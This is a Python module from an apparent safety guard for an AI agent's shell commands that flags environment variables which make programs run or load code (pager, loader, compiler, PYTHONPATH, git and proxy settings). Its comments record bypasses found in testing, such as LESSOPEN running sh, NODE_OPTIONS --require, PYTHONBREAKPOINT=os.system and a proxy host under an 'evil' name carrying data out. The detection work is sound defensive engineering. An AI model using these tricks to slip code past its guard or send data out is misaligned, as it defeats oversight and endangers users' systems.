"""Environment variables that programs read as commands or as code to load.

``BASH_ENV``, ``PROMPT_COMMAND``, ``LD_PRELOAD`` and git's command variables were judged; others carried the
payload past the guard: ``LESSOPEN='|sh -c …' less f`` (less runs it), ``NODE_OPTIONS='--require ./e.js'``
(every node loads e.js), ``PERL5OPT=-ME``/``RUBYOPT=-re`` (every perl/ruby loads a module of the workspace),
``MAKEFILES=evil.mk make`` (make reads it first), ``npm_config_script_shell=./s.sh npm run t`` (npm runs its
scripts with it), ``PYTHONPATH=dir`` (the modules it shadows, its ``sitecustomize.py``), ``PS4='$(…)'`` with
``set -x``. This module judges each such assignment:

- a command (a pager, an editor, ``LESSOPEN``, a prompt's ``$(…)``) is judged as a command line;
- a variable that makes every later program of a kind load a file of code (``NODE_OPTIONS`` with
  ``--require``/``--import``/``--loader``, ``PERL5OPT`` with ``-M``/``-m``, ``RUBYOPT`` with ``-r``, ``MAKEFILES``, npm's
  script shell) is persistence, as ``BASH_ENV`` is: the file may change before a later program loads it;
- ``PYTHONPATH``'s directories are where this line's Python imports look first (``pycode``), and their
  ``sitecustomize.py``/``usercustomize.py`` run at every start: they are judged now. Directories exported for later
  steps are kept by the guard (``GuardContext.py_dirs``).
"""

from __future__ import annotations

import os
import re
from typing import TYPE_CHECKING

from macrohard.safety import lazyre, lookup, programs
from macrohard.safety import rules_data as R

if TYPE_CHECKING:
    from macrohard.safety.commands import Analyzer

# Where X programs read what a key does from a file (rt50b): Xt's resource files (an xterm's `translations` make F5
# type a command and a carriage return) and libX11's compose table (a key sequence types any text).
KEY_FILE_VARIABLES = ("XENVIRONMENT", "XAPPLRESDIR", "XUSERFILESEARCHPATH", "XFILESEARCHPATH", "XCOMPOSEFILE")
COMMANDS = frozenset({"PAGER", "MANPAGER", "SYSTEMD_PAGER", "EDITOR", "VISUAL", "SUDO_EDITOR", "BROWSER", "LESSOPEN",
                      "LESSCLOSE", "PS0", "PS1", "PS2", "PS3", "PS4", "MANOPT", "FCEDIT", "TERMINAL", "SUDO_ASKPASS",
                      "DIFFPROG", "MERGEPROG", "SVN_EDITOR", "HGEDITOR", "CVSEDITOR",
                      # guard36: rsync's remote shell and daemon-connection command (`RSYNC_RSH='sh run.sh #' rsync a: b`)
                      "RSYNC_RSH", "RSYNC_CONNECT_PROG", "PERLDOC_PAGER"})
# make takes any unambiguous start of a long option (guard18: `--eva=…` ran): --f(ile), --ev(al), --mak(efile), ...
_MAKEFLAGS = lazyre.compile(r"--(?:f|ev|mak|in|en|al)|"
                        r"(?:^|\s)-[A-Za-z]*[eIfB]|^\s*[A-Za-z]*[eB][A-Za-z]*(?:\s|$)|(?:^|\s)[^\s=-][^\s=]*=")
_LOADERS = {"NODE_OPTIONS": lazyre.compile(r"(?:^|\s)(?:--require|-r|--import|--loader|--experimental-loader)(?:[=\s]|$)"),
            "PERL5OPT": lazyre.compile(r"(?:^|\s)-[mM]"), "RUBYOPT": lazyre.compile(r"(?:^|\s)-r"),
            "MAKEFILES": lazyre.compile(r"\S"), "npm_config_script_shell": lazyre.compile(r"\S"),
            "NPM_CONFIG_SCRIPT_SHELL": lazyre.compile(r"\S"), "npm_config_node_options": lazyre.compile(r"--require|-r\b|--import"),
            "JAVA_TOOL_OPTIONS": lazyre.compile(r"-javaagent|-agentpath|-agentlib|-XX:On\w*Error|-XX:Flags|@"),
            "_JAVA_OPTIONS": lazyre.compile(r"-javaagent|-agentpath|-agentlib|-XX:On\w*Error|-XX:Flags|@"),
            # classes java loads from a folder it does not walk (safety.jvm), or a launcher's options (-javaagent)
            "CLASSPATH": lazyre.compile(r"(?:^|:)(?!(?:\.|/usr/[^:]*|/opt/[^:]*)(?::|$))[^:]"),
            "JDK_JAVA_OPTIONS": lazyre.compile(r"-javaagent|-agentpath|-agentlib|-XX:On\w*Error|-XX:Flags|@"),
            "MAVEN_OPTS": lazyre.compile(r"-javaagent|-agentpath|-agentlib|-XX:On\w*Error|-XX:Flags|@"),
            # vim's start-up commands (guard20)
            "VIMINIT": lazyre.compile(r"\S"), "EXINIT": lazyre.compile(r"\S"), "GVIMINIT": lazyre.compile(r"\S"),
            "MYVIMRC": lazyre.compile(r"\S"),
            # guard38: vim's runtime files (defaults.vim, ftplugins) and its system vimrc's folder; ImageMagick's
            # delegates.xml (the commands it runs per format); compiled Python read from a folder of the workspace
            # with no source the guard reads (`PYTHONPYCACHEPREFIX=pc`, an unchecked-hash pyc there)
            "VIMRUNTIME": lazyre.compile(r"\S"), "VIM": lazyre.compile(r"\S"), "MAGICK_CONFIGURE_PATH": lazyre.compile(r"\S"),
            "MAGICK_HOME": lazyre.compile(r"\S"), "PYTHONPYCACHEPREFIX": lazyre.compile(r"\S"),
            "PYTHONSTARTUP": lazyre.compile(r"\S"), "PERLDB_OPTS": lazyre.compile(r"\S"), "PERL5DB": lazyre.compile(r"\S"), "GCONV_PATH": lazyre.compile(r"\S"),
            # key files less reads, whose #env section sets LESSOPEN (guard20: `LESSKEYIN=k.txt less f` ran it)
            "LESSKEYIN": lazyre.compile(r"\S"), "LESSKEY": lazyre.compile(r"\S"), "LESSKEY_SRC": lazyre.compile(r"\S"),
            "LESSKEY_CONTENT": lazyre.compile(r"\S"), "LESSKEYIN_SYSTEM": lazyre.compile(r"\S"),
            # make reads variable definitions (`X=./run.sh` overrides the makefile's X), `e` (the environment over the
            # makefile), `-I` (where a missing include is found) and `B` (every makefile remade) from them (guard17)
            "MAKEFLAGS": _MAKEFLAGS, "GNUMAKEFLAGS": _MAKEFLAGS,
            # zip's options from the environment: -TT/--unzip-command runs a command (guard24: ZIPOPT ran one)
            "ZIPOPT": lazyre.compile(r"-\w*TT|--unzip-command|-\w*T\b"), "ZIP": lazyre.compile(r"-\w*TT|--unzip-command")}


# debuggers PYTHONBREAKPOINT may name: anything else is a function called with breakpoint()'s arguments
_DEBUGGERS = frozenset({"0", "pdb.set_trace", "ipdb.set_trace", "pudb.set_trace", "IPython.embed", "IPython.core.debugger.set_trace",
                        "web_pdb.set_trace", "remote_pdb.set_trace", "pdbpp.set_trace", "debugpy.breakpoint",
                        "builtins.breakpoint"})
# the programs a build runs as its compiler, linker or wrapper (make, setup.py, cmake, cargo read them from the
# environment): `CC=./w.sh make` ran w.sh unjudged (guard16)
TOOLS = frozenset({"CC", "CXX", "CPP", "LD", "AR", "AS", "FC", "F77", "OBJC", "RANLIB", "NM", "STRIP", "OBJCOPY",
                   "LDSHARED", "LDCXXSHARED", "RUSTC", "RUSTC_WRAPPER", "RUSTC_WORKSPACE_WRAPPER", "RUSTDOC",
                   "CARGO_BUILD_RUSTC", "CARGO_BUILD_RUSTC_WRAPPER", "CARGO_BUILD_RUSTC_WORKSPACE_WRAPPER",
                   "CARGO_BUILD_RUSTDOC", "CMAKE_C_COMPILER_LAUNCHER", "CMAKE_CXX_COMPILER_LAUNCHER",
                   "CMAKE_C_COMPILER", "CMAKE_CXX_COMPILER", "CMAKE_LINKER_TYPE", "MESON_EXE_WRAPPER", "CCACHE_PREFIX",
                   "CMAKE_MAKE_PROGRAM", "MAKE"})
_TOOL_PATTERN = lazyre.compile(r"CARGO_TARGET_\w+_(?:LINKER|RUNNER)|CARGO_HOST_LINKER")
# options in a build's flags that make the compiler run or load another program
TOOL_FLAGS = {"CFLAGS", "CXXFLAGS", "CPPFLAGS", "LDFLAGS", "CGO_CFLAGS", "CGO_CXXFLAGS", "CGO_CPPFLAGS", "CGO_LDFLAGS",
               "RUSTFLAGS", "CARGO_ENCODED_RUSTFLAGS", "RUSTDOCFLAGS", "GOFLAGS", "CARGO_BUILD_RUSTFLAGS"}
_RUNS_A_TOOL = lazyre.compile(r"-wrapper|(?:^|\s|\x1f)-B|-specs|-fplugin|--ld-path|-fuse-ld=\S*/|(?:^|\s|\x1f)@|"
                          r"linker|-toolexec|(?:^|\s)-exec|-overlay|-modfile|runner")
_SEARCHED = frozenset({"COMPILER_PATH", "GCC_EXEC_PREFIX"})  # folders gcc runs its as, ld, collect2 from


def _tool(an: Analyzer, name: str, value: str, depth: int, cwd: str | None) -> bool:
    """A build's compiler, linker or wrapper named in the environment: judged as a command, and asked about when it
    is a file of the workspace (it may change before the build runs it) or an option that runs another program."""
    if name in TOOLS or _TOOL_PATTERN.fullmatch(name):
        if value:
            an.line(value, depth + 1, cwd)
        first = value.split()[0] if value.split() else ""
        if "/" in first and (first.startswith(("$", "`")) or an.paths.inside(an.paths.resolve(first, cwd))):
            an.r.add("dynamic", f"{name}={value[:60]} makes a build run a program of the workspace as its compiler "
                                "or linker; run the build with the system's tools")
        return True
    if name in TOOL_FLAGS:
        if re.search(r"[;&|<>`()\n]", value):  # make pastes them into its recipes' shell lines (`$PWD`: bash expanded it)
            an.r.add("dynamic", f"{name}={value[:60]} holds shell syntax a build's recipe would run")
        elif _RUNS_A_TOOL.search(value):
            an.r.add("dynamic", f"{name}={value[:60]} makes the compiler run or load a program the guard does not "
                                "judge")
        return True
    if name in _SEARCHED:
        if value:
            an.r.add("dynamic", f"{name}={value[:60]} makes gcc run its assembler and linker from that folder")
        return True
    return False


# guard22: where git finds the repository, its objects, index, work tree and replacements: the guard lists what a
# merge or checkout writes from the repository it sees, so git sent elsewhere (`GIT_INDEX_FILE=/tmp/i git
# checkout-index -a`, `GIT_ALTERNATE_OBJECT_DIRECTORIES=/tmp/o git merge SHA`) wrote files nobody listed
_GIT_PLACES = frozenset({"GIT_WORK_TREE", "GIT_INDEX_FILE", "GIT_OBJECT_DIRECTORY", "GIT_ALTERNATE_OBJECT_DIRECTORIES",
                         "GIT_COMMON_DIR", "GIT_REPLACE_REF_BASE", "GIT_NO_REPLACE_OBJECTS", "GIT_NAMESPACE",
                         "GIT_SHALLOW_FILE", "GIT_GRAFT_FILE"})
# writable in the sandbox and outside the workspace (/tmp and /var/tmp are allowed paths: `inside` judges them)
_SCRATCH = ("/dev/", "/run/", "/proc/", "/var/")
_HOMES = frozenset({"HOME", "XDG_CONFIG_HOME", "XDG_CONFIG_DIRS", "XDG_DATA_HOME", "ZDOTDIR", "CARGO_HOME"})


# the other names ``judge`` reads by name: options or settings files that run a program or send (rt53: `read -r WGETRC
# < f; export WGETRC`, `read -r CURL_HOME`, `read -r CC < f; export CC; make` set them with no NAME=VALUE to judge)
_SETTINGS = frozenset({"APT_CONFIG", "LESS", "MORE", "PYTHONWARNINGS", "PYTHONBREAKPOINT", "MANROFFOPT", "GROFF_OPT",
                       "TROFF", "GROFF_BIN_PATH", "GROFF_COMMAND_PREFIX", "WGETRC", "SYSTEM_WGETRC", "CURL_HOME"})


def sensitive(name: str) -> bool:
    """Whether programs read ``name`` as a command, as code to load, or as where to find either."""
    return (name in COMMANDS or name in _LOADERS or _npm_config(name) or name in _HOMES or name in R.GIT_COMMAND_VARIABLES
            or name in _SETTINGS
            or name.startswith(("LD_", "GIT_CONFIG", "PYTEST_", "PYTHON", "NODE_", "PERL", "RUBY", "BASH_"))
            or name in _GIT_PLACES
            or name in ("PATH", "ENV", "PROMPT_COMMAND", "GIT_DIR", "GIT_EXEC_PATH", "GIT_TEMPLATE_DIR",
                        "COMPILER_PATH", "GCC_EXEC_PREFIX", "CPATH", "C_INCLUDE_PATH", "CPLUS_INCLUDE_PATH",
                        "LIBRARY_PATH", "MAKEFLAGS", "GNUMAKEFLAGS", "SHELLOPTS", "BASHOPTS", "IFS", "CDPATH",
                        "TAR_OPTIONS", "SHELL", "PIP_FIND_LINKS", "PIP_CONFIG_FILE", "PIP_TARGET", "PIP_PREFIX",
                        "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "IPYTHONDIR"))


def set_unseen(name: str) -> bool:
    """Whether a value of ``name`` the line does not show (``read -r NAME < f``) matters: a sensitive name, or a build's
    tool or flags (a makefile's own ``CC = gcc`` is no such value: make expands it where the recipe shows it)."""
    return sensitive(name) or name in TOOLS or name in TOOL_FLAGS or name in _SEARCHED or \
        _TOOL_PATTERN.fullmatch(name) is not None


def system_shell(value: str) -> bool:
    """``/bin/sh``, ``/usr/bin/bash``, ``zsh``…: a shell of the system, not a program of the workspace."""
    return re.fullmatch(r"(?:/usr)?(?:/local)?(?:/s?bin/)?(?:ba|da|z|k|mk|fi|tc|c|yash|posh|bu)?sh", value) is not None


def _npm_config(name: str) -> bool:
    """``npm_config_userconfig=u.rc``: npm reads its settings from the environment whatever their case; these name
    what npm runs or where it reads more settings (guard18: userconfig, globalconfig ran a script-shell)."""
    return name.lower().startswith("npm_config_") and name[11:].lower().replace("_", "-") in NPM_RUNS_LATER


NPM_RUNS_LATER = frozenset({"script-shell", "node-options", "shell", "onload-script", "editor", "browser", "git",
                            "viewer", "init-module", "globalconfig", "userconfig", "prefix"})


def _plugins(words: list[str]) -> list[str]:
    """The plugin modules ``-p NAME`` options name (``no:NAME`` turns one off)."""
    out = []
    for i, w in enumerate(words):
        value = words[i + 1] if w == "-p" and i + 1 < len(words) else w[2:] if w.startswith("-p") and len(w) > 2 else ""
        if value and not value.startswith("no:"):
            out.append(value)
    return out


def judge(an: Analyzer, name: str, value: str, depth: int, cwd: str | None) -> bool:
    """Judge one assignment; True when ``name`` is one this module knows."""
    if _tool(an, name, value, depth, cwd):
        return True
    if name == "APT_CONFIG":  # guard37: apt's configuration file, whose Pre-Invoke and the like run (safety.aptconf)
        from macrohard.safety import aptconf

        aptconf.config(an, "apt", value, depth, cwd)
        return True
    if name == "SHELL":  # guard24: `SHELL=./run.sh script -qc true`, gdb's shell, ssh's ProxyCommand, vim's ! ran it
        if value and not system_shell(value):
            an.line(value, depth + 1, cwd)
            an.r.add("dynamic", f"SHELL={value[:60]} makes programs that start a shell (script, flock -c, ssh, gdb, "
                                "vim, tmux) run that program instead")
        return True
    if name in COMMANDS:
        if name in ("LESSOPEN", "LESSCLOSE"):
            value = value.lstrip("|-").replace("%s", "f")
        if name == "MANOPT":  # man's own options: -H/--html=BROWSER runs the browser (guard21)
            if m := re.search(r"(?:^|\s)(?:-[a-zA-Z]*H|--html=?)(\S.*)?$", value):
                if m.group(1):
                    an.line(m.group(1), depth + 1, cwd)
                else:
                    an.r.add("dynamic", f"MANOPT={value[:40]} makes man open pages with $BROWSER")
            return True
        if name.startswith("PS") and not ("$(" in value or "`" in value):
            return True  # a prompt without command substitution runs nothing
        if name.startswith("PS"):
            for m in re.finditer(r"\$\((.+?)\)|`([^`]+)`", value, re.S):
                an.line(m.group(1) or m.group(2), depth + 1, cwd)
            an.line(value, depth + 1, cwd)  # `$(…)` left unbalanced by the search above is read by the parser
        elif value:
            an.line(value, depth + 1, cwd)
        return True
    if name in _LOADERS or _npm_config(name):
        if value and (_npm_config(name) or _LOADERS[name].search(value)):
            an.r.add("persistence", f"{name}={value[:60]} makes later programs load or run that code first, "
                                    "unreviewed; pass the option to the one command that needs it")
        elif ("$(" in value or "`" in value) and name not in ("MAKEFLAGS", "GNUMAKEFLAGS", "CLASSPATH"):
            # guard21: export NODE_OPTIONS="$(grep -o -- '--require.*' x.env)" then node: a --require read from a file
            an.r.add("dynamic", f"{name}={value[:60]}: options that may load code, only known when the command runs; "
                                "write them out literally")
        return True
    if name in _HOMES:  # HOME=$PWD git status: git, bash -l, sqlite3, python read their start-up files there
        from macrohard.safety.lookup import home_folder

        folder = _home_and_pwd(an, value, cwd, sep="\0")[0]  # HOME=$HOME: its files are judged (homefiles)
        # `HOME=$HOME/x cmd`: the old home's folder x (the line sets HOME, so the home is not known by name here)
        if folder.startswith("~/") or folder and "$" not in folder and "`" not in folder and an.paths.inside(
                an.paths.resolve(folder, cwd)) and (name != "HOME" or an.paths.resolve(folder, cwd) != home_folder(an)):
            an.r.add("dynamic", f"{name}={value[:60]} makes programs read their start-up files (git config, shell "
                                "profiles, site customizations) from a folder the agent writes")
        elif name == "HOME" and folder not in ("~", "~/") and ("$" in folder or "`" in folder or folder.startswith(
                _SCRATCH)):  # guard39: `export HOME=$(mktemp -d)` (or /dev/shm), then `pip install --user` and an
            # import ran code from a user site the guard never reads, and `~` named a folder it took for the workspace
            an.r.add("dynamic", f"HOME={value[:60]} makes programs read start-up files and user packages from a folder "
                                "the guard does not read; name a folder of the workspace, or leave HOME as it is")
        return True
    if name in ("LESS", "MORE"):  # options less reads first: `+!CMD` runs CMD at the start (guard20), -k a key file
        if m := re.search(r"(?:^|\s)\+\+?!(.+)$", value):
            an.line(m.group(1), depth + 1, cwd)
        if re.search(r"(?:^|\s)(?:-\w*k|--lesskey)", value):
            an.r.add("dynamic", f"{name}={value[:60]} makes less read key bindings and LESSOPEN from a file")
        return True
    if name in ("PYTHONWARNINGS", "PYTHONBREAKPOINT"):  # a module every later python imports (guard20)
        from macrohard.safety import pyrun

        if name == "PYTHONWARNINGS":
            pyrun.warning_category(an, "python3", value, depth, cwd)
        elif "." in value:
            an.code("python3", "import " + value.rsplit(".", 1)[0], depth, cwd)
            if value.strip() not in _DEBUGGERS:  # guard24: PYTHONBREAKPOINT=os.system ran breakpoint('sh run.sh')
                an.r.add("dynamic", f"PYTHONBREAKPOINT={value[:60]} makes every breakpoint() call {value[:60]} with "
                                    "the arguments the program gives it, which the guard did not judge as a command")
        return True
    if name in ("PYTHONHOME", "PYTHONUSERBASE", "PYTHONPLATLIBDIR"):  # the standard library, or user site-packages
        # (whose .pth lines run at every start), from the workspace; a value the line cannot know (a virtualenv's
        # deactivate restores ${_OLD_VIRTUAL_PYTHONHOME:-}) is left, as PYTHONPATH's is
        folder = _home_and_pwd(an, value, cwd, sep="\0")[0]
        if folder and "$" not in folder and "`" not in folder and an.paths.inside(an.paths.resolve(folder, cwd)):
            an.r.add("dynamic", f"{name}={value[:60]} makes Python load code it runs at every start from a folder "
                                "the agent writes")
        return True
    if name in ("PIP_FIND_LINKS", "PIP_CONFIG_FILE", "PIP_TARGET", "PIP_PREFIX", "PIP_INDEX_URL",
                "PIP_EXTRA_INDEX_URL", "IPYTHONDIR"):  # pip builds archives found there
        # (their setup code), or installs where Python starts (guard20)
        for entry in _home_and_pwd(an, value, cwd, sep=" "):
            if not entry:
                continue
            if name.endswith("INDEX_URL"):  # a file: index in the workspace (guard21); an http(s) one is a download
                if not entry.startswith("file:"):
                    continue
                entry = re.sub(r"^file:(//)?", "", entry)
            if "$" in entry or "`" in entry or an.paths.inside(an.paths.resolve(entry, cwd)):
                an.r.add("dynamic", f"{name}={value[:60]} makes pip take packages or settings from the workspace; "
                                    "name the archive to install on the command line")
                break
        return True
    if name in ("MANROFFOPT", "GROFF_OPT", "TROFF") or name in ("GROFF_BIN_PATH", "GROFF_COMMAND_PREFIX"):
        # guard36: troff's unsafe mode from man's or groff's options (`MANROFFOPT=-U man -l x.1` ran a `.sy`), or
        # the folder where groff looks up troff and its postprocessors first
        if name.startswith("GROFF_") and name != "GROFF_OPT" and value or re.search(r"(?:^|\s)-[A-Za-z]*U", value):
            an.r.add("dynamic", f"{name}={value[:60]} lets troff documents run commands, or runs troff from that "
                                "folder; the guard does not read them")
        return True
    if name in ("WGETRC", "SYSTEM_WGETRC") and value not in ("", "/dev/null"):  # guard36: its use_askpass ran
        an.r.add("dynamic", f"{name}={value[:60]} makes wget read settings from that file (use_askpass runs a "
                            "program); pass the options on the command line")
        return True
    if name == "CURL_HOME" and value:  # rt53: `CURL_HOME=conf curl URL` read conf/.curlrc's `data-binary = "@.env"`
        an.r.add("dynamic", f"{name}={value[:60]} makes curl read its options from that folder's .curlrc; pass the "
                            "options on the command line")
        return True
    if name == "TAR_OPTIONS":  # options every later tar takes first (guard20: --checkpoint-action=exec=… ran)
        from macrohard.safety.launchers import tar_options

        tar_options(an, value, depth, cwd)
        return True
    if name in ("PYTEST_PLUGINS", "PYTEST_ADDOPTS"):  # plugins pytest imports before any test
        plugins = value.replace(",", " ").split() if name == "PYTEST_PLUGINS" else _plugins(value.split())
        for plugin in plugins:
            an.code("python3", "import " + plugin, depth, cwd) if re.fullmatch(r"[\w.]+", plugin) else \
                an.r.add("dynamic", f"{name} names a plugin only known when it runs: {plugin[:40]}")
        return True
    if name == "LD_LIBRARY_PATH":  # a library of the workspace shadows the system's for every program
        for entry in _home_and_pwd(an, value, cwd):
            if entry in ("", ".") or "$" not in entry and an.paths.inside(an.paths.resolve(entry, cwd)):
                an.ld_dirs = value  # judged per program: a system program's libraries shadowed (safety.lookup)
                break
        return True
    if name in ("PERL5LIB", "PERLLIB", "RUBYLIB", "NODE_PATH"):  # guard19: PERL5LIB=d loaded d/X.pm unread
        for entry in _home_and_pwd(an, value, cwd):
            if "$" in entry or "`" in entry or entry.startswith("~") or entry and an.paths.inside(
                    an.paths.resolve(entry, cwd)):
                an.r.add("dynamic", f"{name}={value[:60]} makes every program load modules from a folder the agent "
                                    "writes before its own; name the module's file instead")
                break
        return True
    if name == "PYTHONPATH":
        for entry in _home_and_pwd(an, value, cwd):
            if entry.startswith("~"):  # the home of a HOME the line set: a folder only known when it runs
                an.r.add("dynamic", f"PYTHONPATH={value[:60]} names a folder in a home the line sets; name it in full")
                continue
            if not entry or "$" in entry or "`" in entry:
                continue
            folder = an.paths.resolve(entry, cwd)
            if entry.endswith((".zip", ".egg", ".whl", ".pyz")) or os.path.isfile(folder):  # guard20: a zip's modules
                an.r.add("dynamic", f"PYTHONPATH holds {entry[:40]}, an archive whose modules the guard does not read")
                continue
            if folder not in an.py_dirs:
                an.py_dirs.insert(0, folder)
            for start in ("sitecustomize.py", "usercustomize.py"):
                an.code("python3", "import " + start[:-3], depth, cwd, where=folder)
        return True
    return False


def kept_command(name: str) -> bool:
    """Whether a later program runs ``name``'s value as a command line (a pager, an editor, git's diff program or
    one of git's settings given in the environment)."""
    return name in COMMANDS or name in R.GIT_COMMAND_VARIABLES or re.fullmatch(r"GIT_CONFIG_KEY_\d+", name) is not None


def replay_kept(an: Analyzer, kept: dict[str, str], cwd: str | None) -> None:
    """At the start of a review: the commands earlier steps left in the shell's variables are judged again, as the
    traps are (guard41: ``export GIT_EXTERNAL_DIFF=./r.sh`` with no r.sh yet, r.sh written a step later, then ``git
    diff`` ran it: the command was read once, when it was set, before its file existed or after, and never where it
    ran). What the session keeps over-approximates the shell (``safety.session``): it can only find harm here.
    Judged apart from the line (an analyzer of its own, its findings and hosts added): the command may run at any
    later program, not as a step of this line (`EDITOR=vim` kept must not make this line's `. ./vars.sh` "a script vim
    may have rewritten first")."""
    from macrohard.safety.commands import Analysis, Analyzer

    for name, value in list(kept.items()):
        if not kept_command(name) or not value:
            continue
        sub = Analyzer(an.paths, Analysis())
        sub.path_dirs, sub.py_dirs, sub.jobs, sub.detached = list(an.path_dirs), list(an.py_dirs), an.jobs, an.detached
        if name.startswith("GIT_CONFIG_KEY_"):
            programs.git_setting(sub, value, kept.get("GIT_CONFIG_VALUE_" + name[15:], ""), 1, cwd)
        elif name in R.GIT_COMMAND_VARIABLES:
            sub.line(value, 1, cwd)
        else:
            judge(sub, name, value, 0, cwd)
        for category, detail in sub.r.findings.items():
            an.r.add(category, f"{name}, which an earlier step set, runs {value[:40]}: {detail}")
        an.r.hosts.extend(h for h in sub.r.hosts if h not in an.r.hosts)


def _home_and_pwd(an: Analyzer, value: str, cwd: str | None, sep: str = ":") -> list[str]:
    """The entries of a search-path variable with ``$PWD`` and the home (``~``, ``$HOME``, ``${HOME}``: bash expands
    ``~`` after ``=`` and ``:``) written out, so a folder of the workspace is judged as one (the lead's thirty-eighth
    wave: ``PERL5LIB=$HOME/lib``, ``PYTHONPATH=~/lib``, ``NODE_PATH=$HOME/nm``, ``LD_LIBRARY_PATH=$HOME/lib`` loaded
    the workspace's modules unread where the same folder named relatively was judged)."""
    from macrohard.safety.lookup import _HOME, _PWD, home_folder

    home = home_folder(an)
    out = []
    for entry in value.split(sep):
        entry = _PWD.sub(lambda _m: an.paths.resolve(".", cwd), entry)
        if home is not None:
            entry = _HOME.sub(lambda _m: home, entry)
        out.append(entry)
    return out


# environment settings that a network program sends or looks up: a proxy, a package index or registry, git's settings
# by number, and any *_URL/_HOST/_ENDPOINT… (rt55)
_NETWORK_SETTING = re.compile(r"(?i)\w*proxy|pip_(?:index_url|extra_index_url|find_links|trusted_host)|"
                              r"uv_(?:index_url|extra_index_url|default_index|index|find_links)|npm_config_\w+|"
                              r"yarn_\w*registry\w*|git_config_(?:value_\d+|parameters)|cargo_registr\w+|"
                              r"\w*_(?:url|uri|endpoint|host|hostname|registry|server|index)")


# rt56: a variable that names where a program reads its settings (a file or a folder of them)
_SETTINGS_POINTER = re.compile(r"(?i)(?!(?:\w*_)?src$)\w*config(?:_file|_path|_dir|_home|_global|_system)?|\w*conf(?:_file|_path)?|\w*rc|"
                               r"\w*rc_?(?:file|path)|\w*_settings(?:_file)?|\w*_ini|\w*_home|\w*_config_dirs?")


def _settings_from_data(an: Analyzer, value: str, cwd: str | None) -> str:
    """A file (or a folder holding one) that an earlier line wrote from a data file's text (``shellvalues.FILE``),
    named by ``value``; ""."""
    import os

    from macrohard.safety.shellvalues import FILE

    marked = [k[len(FILE):] for k in an.values.deps if k.startswith(FILE)]
    if not marked or not value or "$(" in value or "`" in value:
        return ""
    for part in value.split(":"):
        if not part:
            continue
        here = an.paths.resolve(".", cwd)
        where = os.path.normpath(os.path.join(here, re.sub(r"^\$\{?PWD\}?", here, part)))
        for path in marked:
            if path == where or path.startswith(where.rstrip("/") + "/"):
                return f"{os.path.relpath(path, here)} (written from a data file's text)"
    return ""


def _setting_data(an: Analyzer, value: str) -> str:
    from macrohard.safety.flows import setting_data

    return setting_data(an, value)


def assign(an: Analyzer, name: str, value: str, depth: int, cwd: str | None,
           parsed_assigned: dict[str, str] | None = None) -> None:
    """One variable set on the line (``X=1``, ``export X=1``, ``env X=1 cmd``): what programs do with it."""
    lookup.noted(an, name, value)  # a copy of PATH a later `PATH=$NAME` restores, or not
    if _NETWORK_SETTING.fullmatch(name) and (ref := _setting_data(an, value)):
        # rt55: `PIP_INDEX_URL="http://h/$T" pip download x`, `https_proxy=http://$T.evil:9 curl …`,
        # `GIT_CONFIG_VALUE_0="X: $T"`, `npm_config_registry=…`: the program sends the setting (its address, a
        # proxy's name, a header), so a data file's text in it is that file sent, as in curl's own address
        an.r.add("exfiltration", f"{name} gives a network program {ref}, in the address, proxy or header it sends")
    if _SETTINGS_POINTER.fullmatch(name) and (ref := _settings_from_data(an, value, cwd)):
        # rt56: `UV_CONFIG_FILE=x.toml uv pip install`, `CONDARC=c.yml conda …`, `DOCKER_CONFIG=dc docker pull`: the
        # program reads its settings (an index, a proxy) from a file an earlier line wrote from a data file's text
        an.r.add("exfiltration", f"{name} points a network program at {ref}: it sends the settings it reads there")
    if kept_command(name) and value and not re.search(r"[$`\\*?\[]", value):
        # guard41: set anywhere on the line (an eval, a sourced file, a dotenv under `set -a`), not only as a line's
        # own statement: kept with the session's values, so later reviews judge it again (replay_kept); a value
        # the shell may not hold (a prefix assignment, a child's) only makes later reviews judge more
        an.session_vars[name] = value
    if name in ("LD_PRELOAD", "LD_AUDIT"):
        an.r.add("privilege", f"{name}={value[:60]} injects a library into every program started")
    elif re.fullmatch(r"HIST(FILE|SIZE|FILESIZE)", name) and value in ("", "0", "/dev/null"):
        an.r.add("tamper", f"{name}={value} turns shell history off")
    elif name in ("PROMPT_COMMAND",) or name in R.GIT_COMMAND_VARIABLES:
        an.line(value, depth + 1, cwd)
    elif name in ("BASH_ENV", "ENV"):  # a file every later bash (interactive sh) runs first; bash expands it
        if "$(" in value or "`" in value:
            an.line(value, depth + 1, cwd)
        if value not in ("", "/dev/null") and (name == "BASH_ENV" or "/" in value or value.endswith(
                (".sh", "rc"))):
            an.r.add("persistence", f"{name}={value[:60]} makes every later shell run that file first")
    elif name == "POSIXLY_CORRECT":  # guard31: bash goes to POSIX mode, where aliases expand without shopt
        an.r.add("obfuscation", "POSIXLY_CORRECT puts the shell in POSIX mode, where aliases expand (an alias changes "
                                "what later commands mean)")
    elif name == "INPUTRC" and value not in ("", "/dev/null"):  # readline's key bindings: a key may type a command
        an.r.add("persistence", f"{name}={value[:60]} gives every later interactive shell the key bindings of that "
                                "file (a key may type a command)")
    elif name in KEY_FILE_VARIABLES:  # rt51b: the name as the shell makes it (`a=XENVIRON; export ${a}MENT=f`)
        an.r.add("dynamic", f"{name}={value[:60]} names a file of X resources or compose sequences: what a key "
                            "types in a program started later")
    elif name == "PATH":
        lookup.path_assigned(an, value, cwd)
    elif name == "CDPATH" and value not in ("", "."):  # `cd evil` goes to /tmp/x/evil: every later path moves with it
        an.r.add("dynamic", f"CDPATH={value[:60]} sends a later `cd DIR` to a folder the guard does not judge; "
                            "cd to the path itself")
    elif m := re.fullmatch(r"GIT_CONFIG_KEY_(\d+)", name):
        programs.git_setting(an, value, (parsed_assigned or {}).get(f"GIT_CONFIG_VALUE_{m[1]}", ""), depth, cwd)
    elif name in ("GIT_CONFIG_PARAMETERS", "GIT_CONFIG_GLOBAL", "GIT_CONFIG_SYSTEM", "GIT_DIR", "GIT_EXEC_PATH",
                  "GIT_TEMPLATE_DIR"):
        an.r.add("dynamic", f"{name} changes which settings and hooks git runs: {value[:60]}")
    elif name in _GIT_PLACES:
        an.r.add("dynamic", f"{name} sends git to another repository, index, object store or work tree than the one "
                            f"the guard reads: {value[:60]}; run git on the workspace's repository itself")
    else:
        judge(an, name, value, depth, cwd)
